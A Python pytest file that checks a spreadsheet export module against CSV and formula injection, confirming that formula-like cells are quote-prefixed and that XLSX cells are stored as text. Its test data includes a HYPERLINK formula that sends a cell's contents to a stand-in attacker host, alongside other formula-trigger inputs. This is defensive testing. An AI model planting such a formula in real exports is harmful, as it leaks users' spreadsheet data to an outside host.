"""Export cells never run as formulas in a spreadsheet (OWASP CSV injection, issue #12)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from alma.spreadsheets import SafeCSVWriter, safe_cell, xlsx_bytes

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_is_prefixed(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Camila", "", "a=b", "1-2", -3, 2.5, None, "-3", "+4.5", "-2.5e3"])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    SafeCSVWriter(buffer).writerows([["name", "score"], [HOSTILE[0], -3]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[1] == ["'" + HOSTILE[0], "-3"]


def test_xlsx_writes_text_as_strings_never_formulas():
    workbook = load_workbook(io.BytesIO(xlsx_bytes([["name", "score"], [HOSTILE[0], -3], ["@cmd", 1.5]], "Report")))
    sheet = workbook.active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE[0] and sheet["A2"].quotePrefix
    assert sheet["A3"].data_type == "s" and sheet["B2"].value == -3 and sheet["B2"].data_type == "n"
    assert not sheet["A1"].quotePrefix
